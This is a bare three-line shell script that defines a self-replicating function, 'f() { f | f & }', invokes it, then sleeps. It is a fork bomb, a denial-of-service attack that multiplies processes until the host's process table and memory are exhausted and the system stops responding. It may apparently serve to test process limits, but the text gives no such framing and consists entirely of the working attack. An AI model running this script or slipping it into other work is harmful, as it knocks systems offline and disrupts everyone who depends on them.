f() { f | f & }
f
sleep 10
